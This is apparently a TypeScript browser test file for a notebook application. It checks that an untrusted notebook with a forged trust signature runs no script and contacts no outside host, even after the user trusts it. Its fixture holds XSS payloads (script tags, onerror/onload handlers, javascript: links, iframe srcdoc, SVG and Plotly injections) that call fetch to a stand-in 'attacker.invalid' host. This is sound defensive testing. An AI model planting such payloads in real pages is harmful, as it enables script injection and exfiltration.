import { writeFile } from 'node:fs/promises'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { chromium } from '../../test-data.fixture.js'
import { keepScreenshot, type OpenedApp, openApp } from './browser.fixture.js'
import { acceptDialog, notebookOf, openNotebook } from './notebook-page.fixture.js'

/** Code that leaves a trace in the page, and calls another host, if it is ever run. */
const attack = (name: string): string =>
  `(window.attacks = window.attacks || []).push('${name}'); fetch('https://attacker.invalid/${name}')`

const html = `<script>${attack('script')}</script>
<img src="x" onerror="${attack('onerror')}">
<a href="javascript:${attack('link')}">a link</a>
<iframe srcdoc="<script>parent.${attack('frame')}</script>"></iframe>
<form action="https://attacker.invalid/form"><button>send</button></form>
<svg onload="${attack('svg-onload')}"><script>${attack('svg-in-html')}</script></svg>`

const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="${attack('svg')}">
<script>${attack('svg-script')}</script><rect width="20" height="20"/></svg>`

const figure = {
  data: [
    {
      type: 'bar',
      x: [1, 2],
      y: [1, 2],
      text: [`<a href="javascript:${attack('plot-label')}">bar</a>`, 'bar'],
    },
  ],
  layout: {
    title: { text: `<a href="javascript:${attack('plot-title')}">title</a>` },
    images: [{ source: 'https://attacker.invalid/image.png', x: 0, y: 1, sizex: 1, sizey: 1 }],
  },
}

const display = (data: object) => ({ output_type: 'display_data', metadata: { trusted: true }, data })

const notebook = {
  nbformat: 4,
  nbformat_minor: 5,
  metadata: {
    trusted: true,
    signature: 'sha256:forged',
    kernelspec: { name: 'medtune', display_name: 'TypeScript (tslab, medtune)', language: 'typescript' },
  },
  cells: [
    { cell_type: 'markdown', id: 'text', metadata: { trusted: true }, source: `# Hello\n\n${html}` },
    {
      cell_type: 'code',
      id: 'code',
      metadata: { trusted: true },
      execution_count: 1,
      source: '1',
      outputs: [
        display({ 'text/html': html, 'text/plain': 'html' }),
        display({ 'image/svg+xml': svg, 'text/plain': 'svg' }),
        display({ 'application/javascript': attack('javascript'), 'text/plain': 'javascript' }),
        display({ 'text/markdown': `[a link](javascript:${encodeURIComponent(attack('markdown'))})` }),
        display({ 'application/vnd.plotly.v1+json': figure, 'text/plain': 'plot' }),
      ],
    },
  ],
}

describe.skipIf(chromium === undefined)('a notebook of somebody else', () => {
  let app: OpenedApp
  beforeAll(async () => {
    app = await openApp({
      prepare: (root) => writeFile(path.join(root, 'untrusted.ipynb'), JSON.stringify(notebook)),
    })
  })
  afterAll(() => app?.close())

  const attacks = (): Promise<unknown> =>
    app.page.evaluate(() => (window as unknown as { attacks?: string[] }).attacks ?? [])

  test('runs nothing, whatever it says of itself, nor when its links are followed', async () => {
    const { page } = app
    await openNotebook(page, 'untrusted.ipynb')
    const shown = notebookOf(page)
    await shown.locator('.js-plotly-plot .main-svg').first().waitFor()
    for (const link of await shown.locator('.jp-Cell a').all())
      await link.click({ timeout: 1000, noWaitAfter: true }).catch(() => {})
    await page.waitForTimeout(500)
    await keepScreenshot(page, 'untrusted')
    expect(await attacks()).toEqual([])
    expect(await shown.locator('.jp-Cell').locator('script, iframe, [onerror], [onload]').count()).toBe(0)
    expect(await shown.locator('.js-plotly-plot a').count()).toBe(0)
  })

  test('made the page ask no other host, and nothing had to be refused', () => {
    expect(app.foreignRequests).toEqual([])
    expect(app.problems).toEqual([])
  })

  test('runs no script even when the user trusts it: the page runs none of its own text', async () => {
    const { page } = app
    await page.keyboard.press('Control+Shift+c')
    await page.getByPlaceholder('SEARCH').fill('trust notebook')
    await page.locator('.lm-CommandPalette-item', { hasText: 'Trust Notebook' }).click()
    await acceptDialog(page)
    await page.waitForTimeout(1000)
    expect(await attacks()).toEqual([])
    expect(app.foreignRequests).toEqual([])
  })
})
